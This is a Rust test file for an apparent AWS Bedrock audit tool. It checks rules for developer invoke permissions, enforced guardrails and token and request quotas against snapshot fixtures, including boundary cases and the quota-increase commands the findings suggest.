//! Rule tests for `developer-invoke-permissions`, `bedrock-quotas` and `bedrock-api-keys` on
//! snapshot fixtures: pass, fail, error and not_applicable, the boundaries (applied == need
//! passes, need - 1 fails), and old snapshots without the new sections.

use std::path::{Path, PathBuf};

use bedrock_audit::app::parse_snapshot;
use bedrock_audit::engine;
use bedrock_audit::finding::{Finding, Status};
use bedrock_audit::profile::Profile;
use bedrock_audit::rules;
use bedrock_audit::snapshot::{
    ApiKey, ClaudeSettings, CollectError, Collected, ErrorKind, RegionSnapshot, ServiceQuota,
    SettingsFile, SettingsKind, Snapshot, UnreadableUser,
};

const EAST: &str = "us-east-1";
const DEVELOPER: &str = "arn:aws:iam::111122223333:role/ClaudeCodeDevelopers";
const INVOKE: &str = "developer-invoke-permissions";
const DISCOVERY: &str = "developer-model-discovery";
const QUOTAS: &str = "bedrock-quotas";
const KEYS: &str = "bedrock-api-keys";

fn fixture(name: &str) -> Snapshot {
    let path: PathBuf = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("fixtures")
        .join(name);
    let text = std::fs::read_to_string(&path).unwrap();
    parse_snapshot(&text, &path).unwrap()
}

fn ready() -> Snapshot {
    fixture("ready.snapshot.json")
}

fn profile() -> Profile {
    let mut profile = Profile::default();
    profile.rollout.regions = vec![EAST.to_string()];
    profile.access.developer_principals = vec![DEVELOPER.to_string()];
    profile
}

fn with_developers(developers: u64) -> Profile {
    let mut profile = profile();
    profile.capacity.developers = developers;
    profile
}

fn run(rule_id: &str, snapshot: &Snapshot, profile: &Profile) -> Vec<Finding> {
    let rule = rules::find(rule_id).unwrap();
    let findings = engine::run_rule(rule, snapshot, profile);
    assert!(!findings.is_empty(), "{rule_id} made no finding");
    for f in &findings {
        assert_ne!(f.resource, "rule", "rule failed internally: {}", f.message);
    }
    findings
}

fn only(findings: &[Finding]) -> &Finding {
    assert_eq!(findings.len(), 1, "{findings:#?}");
    &findings[0]
}

fn assert_status(f: &Finding, status: Status, fragments: &[&str]) {
    assert_eq!(f.status, status, "{}: {}", f.resource, f.message);
    for fragment in fragments {
        assert!(
            f.message.contains(fragment),
            "{} lacks {fragment:?}: {}",
            f.resource,
            f.message
        );
    }
}

fn east(snapshot: &mut Snapshot) -> &mut RegionSnapshot {
    snapshot
        .regions
        .iter_mut()
        .find(|r| r.region == EAST)
        .unwrap()
}

fn error(operation: &str, kind: ErrorKind, code: &str) -> CollectError {
    CollectError {
        operation: operation.into(),
        kind,
        code: code.into(),
        message: format!("{operation} failed"),
    }
}

/// Sets the applied value of the quota whose name is `name`.
fn set_quota(snapshot: &mut Snapshot, name: &str, value: Option<f64>) {
    let Some(Collected::Ok { data }) = east(snapshot).service_quotas.as_mut() else {
        panic!("quotas not readable in the fixture");
    };
    let quota = data.iter_mut().find(|q| q.quota_name == name).unwrap();
    quota.value = value;
}

const SONNET_TPM: &str =
    "Cross-region model inference tokens per minute for Anthropic Claude Sonnet 4.5 V1";
const SONNET_RPM: &str =
    "Cross-region model inference requests per minute for Anthropic Claude Sonnet 4.5 V1";

// ---- developer-invoke-permissions ------------------------------------------------------------

#[test]
fn invoke_passes_when_every_destination_allows() {
    let findings = run(INVOKE, &ready(), &profile());
    let f = only(&findings);
    assert_status(
        f,
        Status::Pass,
        &[DEVELOPER, "from us-east-1", "16 decisions"],
    );
    assert_eq!(f.resource, DEVELOPER);
    assert!(f
        .evidence
        .iter()
        .any(|e| e.source == "iam:SimulatePrincipalPolicy"
            && e.region.as_deref() == Some("us-east-2")));
}

#[test]
fn invoke_is_not_applicable_without_principals_and_names_the_key() {
    let mut profile = profile();
    profile.access.developer_principals.clear();
    let findings = run(INVOKE, &ready(), &profile);
    assert_status(
        only(&findings),
        Status::NotApplicable,
        &["[access] developer_principals"],
    );
}

#[test]
fn invoke_fails_on_an_scp_deny_in_one_destination_naming_region_action_and_scp() {
    let mut snapshot = ready();
    for simulation in &mut east(&mut snapshot).invoke_simulations {
        if simulation.requested_region != "us-east-2" {
            continue;
        }
        let Collected::Ok { data } = &mut simulation.results else {
            panic!()
        };
        let first = &mut data[0];
        first.decision = "explicitDeny".into();
        first.allowed_by_organizations = Some(false);
        first.matched_statements.clear();
    }
    let findings = run(INVOKE, &snapshot, &profile());
    assert_status(
        only(&findings),
        Status::Fail,
        &[
            "in us-east-2",
            "bedrock:InvokeModel",
            "explicitDeny",
            "service control policy",
        ],
    );
    assert!(
        !findings[0].message.contains("a Deny statement"),
        "{}",
        findings[0].message
    );
}

#[test]
fn invoke_fails_on_a_boundary_or_a_named_deny_policy_and_on_an_unknown_decision() {
    let cases: [(&str, Option<bool>, Option<&str>, &str); 3] = [
        ("implicitDeny", Some(false), None, "permissions boundary"),
        (
            "explicitDeny",
            Some(true),
            Some("DenyBedrock"),
            "a Deny statement in DenyBedrock",
        ),
        ("maybe", Some(true), None, "unknown decision \"maybe\""),
    ];
    for (decision, boundary, policy, expected) in cases {
        let mut snapshot = ready();
        // [0] is the discovery call; [1] an invocation through the Haiku profile.
        let simulation = &mut east(&mut snapshot).invoke_simulations[1];
        let Collected::Ok { data } = &mut simulation.results else {
            panic!()
        };
        data[1].decision = decision.into();
        data[1].allowed_by_permissions_boundary = boundary;
        data[1].matched_statements = policy
            .map(|id| bedrock_audit::snapshot::MatchedStatement {
                source_policy_id: Some(id.into()),
                source_policy_type: Some("user-managed".into()),
            })
            .into_iter()
            .collect();
        let findings = run(INVOKE, &snapshot, &profile());
        assert_status(only(&findings), Status::Fail, &[expected]);
    }
}

#[test]
fn invoke_plain_implicit_deny_says_no_policy_allows_it() {
    let mut snapshot = ready();
    let simulation = &mut east(&mut snapshot).invoke_simulations[1];
    let Collected::Ok { data } = &mut simulation.results else {
        panic!()
    };
    data[0].decision = "implicitDeny".into();
    data[0].matched_statements.clear();
    let findings = run(INVOKE, &snapshot, &profile());
    assert_status(only(&findings), Status::Fail, &["no policy that allows it"]);
}

#[test]
fn invoke_decided_without_a_context_key_is_an_error_naming_the_key_and_statement() {
    // A data-perimeter Deny on aws:SourceVpce: the simulator reports the key missing inside
    // ResourceSpecificResults (API reference, ResourceSpecificResult.MissingContextValues), so
    // the denial says nothing about a request from the VPC endpoint: `error`, not `fail`.
    for decision in ["explicitDeny", "allowed"] {
        let mut snapshot = ready();
        let simulation = &mut east(&mut snapshot).invoke_simulations[1];
        let Collected::Ok { data } = &mut simulation.results else {
            panic!()
        };
        data[0].decision = decision.into();
        data[0].matched_statements = vec![bedrock_audit::snapshot::MatchedStatement {
            source_policy_id: Some("DataPerimeter".into()),
            source_policy_type: Some("user-managed".into()),
        }];
        data[0].missing_context_values = vec!["aws:SourceVpce".into()];
        let findings = run(INVOKE, &snapshot, &profile());
        assert_status(
            only(&findings),
            Status::Error,
            &[
                "aws:SourceVpce",
                "DataPerimeter",
                "[network] private_only = true",
            ],
        );
    }
}

#[test]
fn invoke_needs_the_profile_arn_in_the_context_of_each_invocation() {
    // An older snapshot's calls carried aws:RequestedRegion only: they say nothing about a
    // policy keyed on bedrock:InferenceProfileArn, so the decisions count as not simulated.
    let mut snapshot = ready();
    for simulation in &mut east(&mut snapshot).invoke_simulations {
        simulation.inference_profile_arn = None;
    }
    let f = run(INVOKE, &snapshot, &profile()).remove(0);
    assert_status(
        &f,
        Status::Error,
        &["was not simulated", "through arn:aws:bedrock:us-east-1"],
    );
}

#[test]
fn discovery_is_judged_apart_at_low_severity_and_invocation_still_passes() {
    let mut snapshot = ready();
    let discovery = &mut east(&mut snapshot).invoke_simulations[0];
    assert!(discovery.inference_profile_arn.is_none());
    let Collected::Ok { data } = &mut discovery.results else {
        panic!()
    };
    for result in data.iter_mut() {
        result.decision = "implicitDeny".into();
        result.matched_statements.clear();
    }
    let invoke = run(INVOKE, &snapshot, &profile());
    assert_status(only(&invoke), Status::Pass, &[DEVELOPER]);
    let found = run(DISCOVERY, &snapshot, &profile());
    let f = only(&found);
    assert_status(
        f,
        Status::Fail,
        &[
            "bedrock:ListInferenceProfiles",
            "model picker",
            "implicitDeny",
        ],
    );
    assert_eq!(f.severity, bedrock_audit::finding::Severity::Low);
    assert_status(
        only(&run(DISCOVERY, &ready(), &profile())),
        Status::Pass,
        &["4 decisions"],
    );
}

#[test]
fn invoke_errors_when_a_simulation_failed_or_is_missing_or_incomplete() {
    // The simulation call failed.
    let mut snapshot = ready();
    east(&mut snapshot).invoke_simulations[1].results = Collected::failed(error(
        "iam:SimulatePrincipalPolicy",
        ErrorKind::AccessDenied,
        "AccessDenied",
    ));
    let f = run(INVOKE, &snapshot, &profile()).remove(0);
    assert_status(
        &f,
        Status::Error,
        &["iam:SimulatePrincipalPolicy failed with AccessDenied"],
    );

    // An older snapshot: no simulations at all.
    let mut snapshot = ready();
    east(&mut snapshot).invoke_simulations.clear();
    let f = run(INVOKE, &snapshot, &profile()).remove(0);
    assert_status(&f, Status::Error, &["was not simulated"]);

    // A principal the scan did not simulate.
    let mut other = profile();
    other.access.developer_principals = vec!["arn:aws:iam::111122223333:role/Other".into()];
    let f = run(INVOKE, &ready(), &other).remove(0);
    assert_status(&f, Status::Error, &["was not simulated"]);

    // A simulation whose answer lacks one pair.
    let mut snapshot = ready();
    let Collected::Ok { data } = &mut east(&mut snapshot).invoke_simulations[2].results else {
        panic!()
    };
    data.remove(0);
    let f = run(INVOKE, &snapshot, &profile()).remove(0);
    assert_status(&f, Status::Error, &["returned no result"]);

    // The inference profiles could not be read, or do not list the model.
    let mut snapshot = ready();
    east(&mut snapshot).inference_profiles = Collected::failed(error(
        "bedrock:ListInferenceProfiles",
        ErrorKind::Throttling,
        "ThrottlingException",
    ));
    let f = run(INVOKE, &snapshot, &profile()).remove(0);
    assert_status(&f, Status::Error, &["bedrock:ListInferenceProfiles"]);
    let mut snapshot = ready();
    let Collected::Ok { data } = &mut east(&mut snapshot).inference_profiles else {
        panic!()
    };
    data.clear();
    let f = run(INVOKE, &snapshot, &profile()).remove(0);
    assert_status(&f, Status::Error, &["does not list"]);
}

#[test]
fn invoke_failure_outranks_an_unreadable_simulation() {
    let mut snapshot = ready();
    let sims = &mut east(&mut snapshot).invoke_simulations;
    sims[1].results = Collected::failed(error(
        "iam:SimulatePrincipalPolicy",
        ErrorKind::Throttling,
        "Throttling",
    ));
    let Collected::Ok { data } = &mut sims[2].results else {
        panic!()
    };
    data[0].decision = "implicitDeny".into();
    let f = run(INVOKE, &snapshot, &profile()).remove(0);
    assert_status(&f, Status::Fail, &["Not checked"]);
}

// ---- enforced guardrails (developer-invoke-permissions) ---------------------------------------

const GUARDRAIL: &str = "arn:aws:bedrock:us-east-1:111122223333:guardrail/gr0enforced";

/// The ready fixture with one enforced guardrail (no modelEnforcement: every model), READY at
/// version 3, and the developer's ApplyGuardrail simulation with `decision`.
fn with_enforced_guardrail(status: &str, version: &str, decision: &str) -> Snapshot {
    use bedrock_audit::snapshot::{EnforcedGuardrail, Guardrail};
    let mut snapshot = ready();
    let region = east(&mut snapshot);
    region.enforced_guardrails = Some(Collected::ok(vec![EnforcedGuardrail {
        config_id: Some("cfg1".into()),
        guardrail_arn: Some(GUARDRAIL.into()),
        guardrail_id: Some("gr0enforced".into()),
        guardrail_version: Some(version.into()),
        owner: Some("ACCOUNT".into()),
        included_models: None,
        excluded_models: Vec::new(),
        guardrail: Some(Collected::ok(Guardrail {
            guardrail_id: "gr0enforced".into(),
            guardrail_arn: GUARDRAIL.into(),
            name: "company-policy".into(),
            version: version.into(),
            status: status.into(),
        })),
    }]));
    region
        .invoke_simulations
        .push(apply_guardrail_simulation(GUARDRAIL, decision));
    snapshot
}

/// The developer's simulated bedrock:ApplyGuardrail on `guardrail` in us-east-1.
fn apply_guardrail_simulation(
    guardrail: &str,
    decision: &str,
) -> bedrock_audit::snapshot::InvokeSimulation {
    use bedrock_audit::snapshot::{InvokeSimulation, SimulationResult};
    InvokeSimulation {
        principal: DEVELOPER.into(),
        requested_region: EAST.into(),
        action_names: vec!["bedrock:ApplyGuardrail".into()],
        resource_arns: vec![guardrail.into()],
        results: Collected::ok(vec![SimulationResult {
            action: "bedrock:ApplyGuardrail".into(),
            resource: guardrail.into(),
            decision: decision.into(),
            allowed_by_organizations: Some(true),
            allowed_by_permissions_boundary: None,
            matched_statements: Vec::new(),
            missing_context_values: Vec::new(),
        }]),
        inference_profile_arn: None,
        context: Default::default(),
    }
}

#[test]
fn an_enforced_guardrail_the_developer_may_apply_passes_and_one_denied_fails_naming_it() {
    let f = run(
        INVOKE,
        &with_enforced_guardrail("READY", "3", "allowed"),
        &profile(),
    )
    .remove(0);
    assert_status(&f, Status::Pass, &[DEVELOPER]);
    let f = run(
        INVOKE,
        &with_enforced_guardrail("READY", "3", "implicitDeny"),
        &profile(),
    )
    .remove(0);
    assert_status(
        &f,
        Status::Fail,
        &[
            GUARDRAIL,
            "bedrock:ApplyGuardrail",
            "implicitDeny",
            "enforces on",
        ],
    );
}

#[test]
fn an_enforced_guardrail_not_ready_or_unpinned_fails() {
    let f = run(
        INVOKE,
        &with_enforced_guardrail("FAILED", "3", "allowed"),
        &profile(),
    )
    .remove(0);
    assert_status(&f, Status::Fail, &[GUARDRAIL, "FAILED, not READY"]);
    let f = run(
        INVOKE,
        &with_enforced_guardrail("READY", "DRAFT", "allowed"),
        &profile(),
    )
    .remove(0);
    assert_status(&f, Status::Fail, &["no numbered version is pinned"]);
}

#[test]
fn an_enforced_guardrail_for_other_models_only_is_not_judged() {
    let mut snapshot = with_enforced_guardrail("FAILED", "3", "implicitDeny");
    if let Some(Collected::Ok { data }) = &mut east(&mut snapshot).enforced_guardrails {
        data[0].included_models = Some(vec!["amazon.nova-pro-v1:0".into()]);
    }
    let f = run(INVOKE, &snapshot, &profile()).remove(0);
    assert_status(&f, Status::Pass, &[DEVELOPER]);
    // Excluding the configured model also leaves it out.
    let mut snapshot = with_enforced_guardrail("FAILED", "3", "implicitDeny");
    if let Some(Collected::Ok { data }) = &mut east(&mut snapshot).enforced_guardrails {
        data[0].excluded_models = vec![
            "anthropic.claude-sonnet-4-5-20250929-v1:0".into(),
            "anthropic.claude-haiku-4-5-20251001-v1:0".into(),
        ];
    }
    let f = run(INVOKE, &snapshot, &profile()).remove(0);
    assert_status(&f, Status::Pass, &[DEVELOPER]);
}

#[test]
fn enforced_guardrails_unread_or_not_collected_are_an_error() {
    let mut snapshot = ready();
    east(&mut snapshot).enforced_guardrails = Some(Collected::failed(error(
        "bedrock:ListEnforcedGuardrailsConfiguration",
        ErrorKind::AccessDenied,
        "AccessDeniedException",
    )));
    let f = run(INVOKE, &snapshot, &profile()).remove(0);
    assert_status(
        &f,
        Status::Error,
        &["bedrock:ListEnforcedGuardrailsConfiguration failed with AccessDeniedException"],
    );
    let mut snapshot = ready();
    east(&mut snapshot).enforced_guardrails = None;
    let f = run(INVOKE, &snapshot, &profile()).remove(0);
    assert_status(&f, Status::Error, &["enforced guardrails", "not collected"]);
}

// ---- bedrock-quotas --------------------------------------------------------------------------

#[test]
fn quotas_pass_without_a_team_size_and_name_the_codes() {
    let findings = run(QUOTAS, &ready(), &profile());
    assert_eq!(findings.len(), 2);
    for f in &findings {
        assert_status(f, Status::Pass, &["set [capacity] developers"]);
    }
    assert!(
        findings[0].message.contains("L-59759B4A"),
        "{}",
        findings[0].message
    );
    assert!(
        findings[1].message.contains("L-58BE175A"),
        "{}",
        findings[1].message
    );
}

#[test]
fn quota_of_zero_fails_with_the_increase_command() {
    let mut snapshot = ready();
    set_quota(&mut snapshot, SONNET_TPM, Some(0.0));
    let findings = run(QUOTAS, &snapshot, &profile());
    assert_status(
        &findings[0],
        Status::Fail,
        &[
            "is 0",
            // Without a team size: one developer's need, 200,000 + 5 × 4,000.
            "aws service-quotas request-service-quota-increase --service-code bedrock --quota-code L-59759B4A --desired-value 220000 --region us-east-1",
        ],
    );
    assert_eq!(findings[1].status, Status::Pass);
}

#[test]
fn quota_boundary_equal_to_need_passes_one_below_fails_naming_both_numbers() {
    // 40 developers × (200,000 input + 5 × 4,000 output) = 8,800,000 (Sonnet 4.5 burns output
    // 5×, Bedrock user guide "How tokens are counted"); 40 × 7 requests = 280.
    let mut snapshot = ready();
    set_quota(&mut snapshot, SONNET_TPM, Some(8_800_000.0));
    set_quota(&mut snapshot, SONNET_RPM, Some(280.0));
    let findings = run(QUOTAS, &snapshot, &with_developers(40));
    assert_status(
        &findings[0],
        Status::Pass,
        &[
            "8800000 ≥ 8800000 needed (40 developers × (200000 input + 5 × 4000 output) tokens per minute)",
            "280 ≥ 280 needed",
            "all 40 developers can have a request in flight at once",
        ],
    );

    set_quota(&mut snapshot, SONNET_TPM, Some(8_799_999.0));
    let findings = run(QUOTAS, &snapshot, &with_developers(40));
    assert_status(
        &findings[0],
        Status::Fail,
        &[
            "is 8799999 but 40 developers × (200000 input + 5 × 4000 output) tokens per minute need 8800000",
            "--quota-code L-59759B4A --desired-value 8800000 --region us-east-1",
        ],
    );
    assert!(!findings[0].message.contains("requests per minute need"));

    set_quota(&mut snapshot, SONNET_TPM, Some(8_800_000.0));
    set_quota(&mut snapshot, SONNET_RPM, Some(279.0));
    let findings = run(QUOTAS, &snapshot, &with_developers(40));
    assert_status(
        &findings[0],
        Status::Fail,
        &[
            "is 279 but 40 developers × 7 requests per minute need 280",
            "L-12D9F6D4",
        ],
    );
    // Without a team size, a small non-zero value passes.
    let findings = run(QUOTAS, &snapshot, &profile());
    assert_eq!(findings[0].status, Status::Pass);
}

/// The team of the third row: 40 developers at 80,000 input + 4,000 output tokens a
/// minute is 3,360,000 raw tokens, inside a 4,000,000 quota as a raw count; Bedrock counts the
/// output of Claude 4-class models 5×, so they need 4,000,000 exactly, and a fifth more output
/// does not fit.
#[test]
fn output_burndown_counts_five_times_for_sonnet_4_5_and_once_for_claude_3_5_haiku() {
    let mut profile = with_developers(40);
    profile.capacity.input_tokens_per_minute_per_developer = 80_000;
    profile.capacity.output_tokens_per_minute_per_developer = 4_000;
    let findings = run(QUOTAS, &ready(), &profile);
    assert_status(
        &findings[0],
        Status::Pass,
        &["4000000 ≥ 4000000 needed (40 developers × (80000 input + 5 × 4000 output)"],
    );
    let evidence = findings[0]
        .evidence
        .iter()
        .find(|e| e.source == "capacity-model")
        .expect("the arithmetic is evidence");
    assert_eq!(evidence.values["output_burndown"], 5);
    assert_eq!(evidence.values["need_per_minute"], 4_000_000);
    assert!(evidence.values["output_burndown_source"]
        .as_str()
        .is_some_and(|s| s.contains("How tokens are counted")));

    profile.capacity.output_tokens_per_minute_per_developer = 4_001;
    let findings = run(QUOTAS, &ready(), &profile);
    assert_status(
        &findings[0],
        Status::Fail,
        &["is 4000000 but 40 developers × (80000 input + 5 × 4001 output) tokens per minute need 4000200"],
    );

    // Claude 3.5 Haiku is not on the burndown list: its output counts once.
    let mut snapshot = ready();
    let Some(Collected::Ok { data }) = east(&mut snapshot).service_quotas.as_mut() else {
        panic!()
    };
    data.push(ServiceQuota {
        quota_code: "L-35HAIKU0".into(),
        quota_name: "Cross-region model inference tokens per minute for Anthropic Claude 3.5 Haiku"
            .into(),
        value: Some(3_360_000.0),
        adjustable: true,
    });
    profile.capacity.output_tokens_per_minute_per_developer = 4_000;
    profile.rollout.fast_model = "us.anthropic.claude-3-5-haiku-20241022-v1:0".into();
    let findings = run(QUOTAS, &snapshot, &profile);
    assert_status(
        &findings[1],
        Status::Pass,
        &["3360000 ≥ 3360000 needed (40 developers × (80000 input + 1 × 4000 output)"],
    );
}

fn with_max_output_tokens(snapshot: &mut Snapshot, value: serde_json::Value) {
    snapshot.claude_settings = Some(ClaudeSettings {
        files: vec![SettingsFile {
            path: "/etc/claude-code/managed-settings.json".into(),
            kind: SettingsKind::Managed,
            content: serde_json::json!({"env": {"CLAUDE_CODE_MAX_OUTPUT_TOKENS": value}}),
            redactions: Vec::new(),
        }],
        guardrails: Vec::new(),
    });
}

/// Each request reserves its input plus max_tokens at its start (Bedrock user guide, "How
/// tokens are counted"): 40,000 typical context + CLAUDE_CODE_MAX_OUTPUT_TOKENS. With a rate
/// need that fits, the reservation alone can fail the quota, and the finding names how many
/// developers can be in flight and the setting that would fit.
#[test]
fn the_max_tokens_reservation_limits_developers_in_flight_and_names_the_setting_that_fits() {
    let mut profile = with_developers(40);
    profile.capacity.input_tokens_per_minute_per_developer = 50_000;
    profile.capacity.output_tokens_per_minute_per_developer = 1_000;
    // Rate need 40 × 55,000 = 2,200,000 fits the 4,000,000 quota. Default max_tokens 32,000
    // (code.claude.com env-vars): 72,000 reserved each, 55 in flight: passes.
    let findings = run(QUOTAS, &ready(), &profile);
    assert_status(
        &findings[0],
        Status::Pass,
        &["all 40 developers can have a request in flight at once (55 fit"],
    );
    let evidence = findings[0]
        .evidence
        .iter()
        .find(|e| e.source == "capacity-model")
        .unwrap();
    assert_eq!(evidence.values["max_tokens"], 32_000);
    assert!(evidence.values["max_tokens_source"]
        .as_str()
        .is_some_and(|s| s.contains("code.claude.com/docs/en/env-vars")));

    // The settings raise it to 64,000: 104,000 reserved each, 38 of 40 fit.
    let mut snapshot = ready();
    with_max_output_tokens(&mut snapshot, serde_json::json!("64000"));
    let findings = run(QUOTAS, &snapshot, &profile);
    assert_status(
        &findings[0],
        Status::Fail,
        &[
            "40000 context + 64000 max_tokens (/etc/claude-code/managed-settings.json#env.CLAUDE_CODE_MAX_OUTPUT_TOKENS) = 104000 tokens",
            "only 38 of the 40 developers can have a request in flight at once",
            "--quota-code L-59759B4A --desired-value 4160000 --region us-east-1",
            "or set CLAUDE_CODE_MAX_OUTPUT_TOKENS=60000",
        ],
    );

    // A quota so small that no setting fits: Bedrock reserves at least 4,096 output tokens.
    // 40 × 40,000 = 1,600,000 fits 1,700,000; 42,500 a developer leaves 2,500 for max_tokens.
    let mut snapshot = ready();
    set_quota(&mut snapshot, SONNET_TPM, Some(1_700_000.0));
    profile.capacity.input_tokens_per_minute_per_developer = 40_000;
    profile.capacity.output_tokens_per_minute_per_developer = 0;
    let findings = run(QUOTAS, &snapshot, &profile);
    assert_status(
        &findings[0],
        Status::Fail,
        &[
            "only 23 of the 40 developers",
            "no CLAUDE_CODE_MAX_OUTPUT_TOKENS makes 40 requests fit",
        ],
    );

    // Below 4,096 the setting frees nothing: Bedrock reserves 4,096 ("Bedrock's burndown
    // throttling logic sets a minimum of 4096 tokens as the max_token penalty", Claude Code's
    // Bedrock page). 40,000 + 4,096 = 44,096 a request; 1,700,000 fits 38 of them.
    with_max_output_tokens(&mut snapshot, serde_json::json!(1000));
    let findings = run(QUOTAS, &snapshot, &profile);
    assert_status(
        &findings[0],
        Status::Fail,
        &[
            "40000 context + 4096 max_tokens",
            "1000 set but Bedrock reserves at least 4096",
            "= 44096 tokens",
            "only 38 of the 40 developers",
        ],
    );

    // A value Claude Code cannot read as tokens: the reservation is unknown, never passed.
    let mut snapshot = ready();
    with_max_output_tokens(&mut snapshot, serde_json::json!("lots"));
    let findings = run(QUOTAS, &snapshot, &profile);
    assert_status(
        &findings[0],
        Status::Error,
        &["CLAUDE_CODE_MAX_OUTPUT_TOKENS in /etc/claude-code/managed-settings.json#env.CLAUDE_CODE_MAX_OUTPUT_TOKENS is not a whole number"],
    );
    // Without a team size there is no reservation verdict to withhold.
    let findings = run(QUOTAS, &snapshot, &self::profile());
    assert_eq!(findings[0].status, Status::Pass, "{}", findings[0].message);
}

fn add_quota(snapshot: &mut Snapshot, code: &str, name: &str, value: f64) {
    let Some(Collected::Ok { data }) = east(snapshot).service_quotas.as_mut() else {
        panic!()
    };
    data.push(ServiceQuota {
        quota_code: code.into(),
        quota_name: name.into(),
        value: Some(value),
        adjustable: true,
    });
}

const SONNET_DAILY: &str = "Model invocation max tokens per day for Anthropic Claude Sonnet 4.5 V1";

/// The first row: a new account's reduced daily quota of 100,000 tokens passed the
/// old per-minute check; ten developers at 5,000,000 tokens a day need 50,000,000.
#[test]
fn a_reduced_daily_quota_fails_against_the_teams_day() {
    let mut snapshot = ready();
    set_quota(&mut snapshot, SONNET_DAILY, Some(100_000.0));
    let findings = run(QUOTAS, &snapshot, &with_developers(10));
    assert_status(
        &findings[0],
        Status::Fail,
        &[
            "Model invocation max tokens per day for Anthropic Claude Sonnet 4.5 V1 (L-D1A5E0F2) is 100000 but 10 developers × 5000000 tokens a day need 50000000",
            "throttled until the day ends",
            "--quota-code L-D1A5E0F2 --desired-value 50000000 --region us-east-1",
        ],
    );
    assert_eq!(findings[1].status, Status::Pass, "{}", findings[1].message);
    // Enough for the day passes, and says so.
    let mut snapshot = ready();
    set_quota(&mut snapshot, SONNET_DAILY, Some(50_000_000.0));
    let findings = run(QUOTAS, &snapshot, &with_developers(10));
    assert_status(&findings[0], Status::Pass, &["50000000 ≥ 50000000 needed"]);
    // Zero fails even without a team size.
    let mut snapshot = ready();
    set_quota(&mut snapshot, SONNET_DAILY, Some(0.0));
    let findings = run(QUOTAS, &snapshot, &profile());
    assert_status(&findings[0], Status::Fail, &["(L-D1A5E0F2) is 0"]);
}

#[test]
fn the_cross_model_daily_quota_caps_every_model() {
    let mut snapshot = ready();
    set_quota(
        &mut snapshot,
        "Cross-Model Max Tokens Per Day",
        Some(30_000_000.0),
    );
    let findings = run(QUOTAS, &snapshot, &with_developers(10));
    for f in &findings {
        assert_status(
            f,
            Status::Fail,
            &[
                "Cross-Model Max Tokens Per Day (L-C0FFEE01) is 30000000 but 10 developers × 5000000 tokens a day (all models together) need 50000000",
                "--quota-code L-C0FFEE01 --desired-value 50000000",
            ],
        );
    }
}

/// The issue's second row: "RPM applies to some models on the bedrock-runtime endpoint but not
/// others" (Quotas for the bedrock-runtime endpoint), so an account without RPM rows passes.
/// A missing per-minute token quota stays an error.
#[test]
fn missing_rpm_and_daily_quotas_are_not_errors_but_a_missing_tpm_quota_is() {
    let mut snapshot = ready();
    let Some(Collected::Ok { data }) = east(&mut snapshot).service_quotas.as_mut() else {
        panic!()
    };
    data.retain(|q| {
        !q.quota_name.contains("requests per minute") && !q.quota_name.contains("per day")
    });
    let findings = run(QUOTAS, &snapshot, &with_developers(10));
    for f in &findings {
        assert_eq!(f.status, Status::Pass, "{}", f.message);
        assert!(f.evidence.iter().any(|e| e.values["listed"] == false
            && e.values["wanted"]
                .as_str()
                .is_some_and(|w| w.starts_with("cross-Region requests per minute"))));
    }
    // The per-minute token quota still must be there.
    let Some(Collected::Ok { data }) = east(&mut snapshot).service_quotas.as_mut() else {
        panic!()
    };
    data.retain(|q| q.quota_name != SONNET_TPM);
    let findings = run(QUOTAS, &snapshot, &with_developers(10));
    assert_status(
        &findings[0],
        Status::Error,
        &["lists no cross-Region tokens per minute quota for Claude Sonnet 4.5"],
    );
}

#[test]
fn decoy_daily_quotas_are_not_taken() {
    let mut snapshot = ready();
    for (code, name) in [
        ("L-DEC0Y001", "Model invocation max tokens per day for Anthropic Claude Sonnet 4.5 V1 1M Context Length"),
        ("L-DEC0Y002", "Model invocation max tokens per day for Anthropic Claude Sonnet 4.5 V2"),
        ("L-DEC0Y003", "Batch inference max tokens per day for Anthropic Claude Sonnet 4.5 V1"),
        ("L-DEC0Y004", "Model invocation max tokens per day for Anthropic Claude Sonnet 4 V1"),
        ("L-DEC0Y005", "Global cross-Region model invocation max tokens per day for Anthropic Claude Sonnet 4.5 V1"),
    ] {
        add_quota(&mut snapshot, code, name, 0.0);
    }
    let findings = run(QUOTAS, &snapshot, &with_developers(10));
    assert_eq!(findings[0].status, Status::Pass, "{}", findings[0].message);
    assert!(!findings[0].message.contains("L-DEC0Y"));
    // The global profile takes the global daily quota, not the routing-less one.
    let mut profile = with_developers(10);
    profile.rollout.primary_model = "global.anthropic.claude-sonnet-4-5-20250929-v1:0".into();
    let findings = run(QUOTAS, &snapshot, &profile);
    assert_status(&findings[0], Status::Fail, &["(L-DEC0Y005) is 0"]);
    assert!(!findings[0].message.contains("L-D1A5E0F2"));
}

#[test]
fn quota_absent_unreadable_valueless_or_not_collected_is_error() {
    let mut snapshot = ready();
    let Some(Collected::Ok { data }) = east(&mut snapshot).service_quotas.as_mut() else {
        panic!()
    };
    data.retain(|q| q.quota_name != SONNET_TPM);
    let findings = run(QUOTAS, &snapshot, &profile());
    assert_status(
        &findings[0],
        Status::Error,
        &["lists no cross-Region tokens per minute quota for Claude Sonnet 4.5"],
    );
    assert_eq!(findings[1].status, Status::Pass);

    let mut snapshot = ready();
    set_quota(&mut snapshot, SONNET_RPM, None);
    let findings = run(QUOTAS, &snapshot, &profile());
    assert_status(&findings[0], Status::Error, &["has no applied value"]);

    let mut snapshot = ready();
    east(&mut snapshot).service_quotas = Some(Collected::failed(error(
        "servicequotas:ListServiceQuotas",
        ErrorKind::Throttling,
        "TooManyRequestsException",
    )));
    for f in run(QUOTAS, &snapshot, &profile()) {
        assert_status(
            &f,
            Status::Error,
            &["servicequotas:ListServiceQuotas failed with TooManyRequestsException"],
        );
    }

    let mut snapshot = ready();
    east(&mut snapshot).service_quotas = None;
    for f in run(QUOTAS, &snapshot, &profile()) {
        assert_status(&f, Status::Error, &["not collected"]);
    }
}

#[test]
fn quota_duplicates_and_unknown_models_are_errors_not_guesses() {
    let mut snapshot = ready();
    let Some(Collected::Ok { data }) = east(&mut snapshot).service_quotas.as_mut() else {
        panic!()
    };
    let mut twin = data
        .iter()
        .find(|q| q.quota_name == SONNET_TPM)
        .unwrap()
        .clone();
    twin.quota_code = "L-00000000".into();
    twin.quota_name = SONNET_TPM.to_uppercase();
    data.push(twin);
    let findings = run(QUOTAS, &snapshot, &profile());
    assert_status(&findings[0], Status::Error, &["2 quotas", "L-00000000"]);

    let mut profile = profile();
    profile.rollout.primary_model =
        "arn:aws:bedrock:us-east-1:111122223333:application-inference-profile/abc123".into();
    let findings = run(QUOTAS, &ready(), &profile);
    assert_status(&findings[0], Status::Error, &["names no Claude model"]);
}

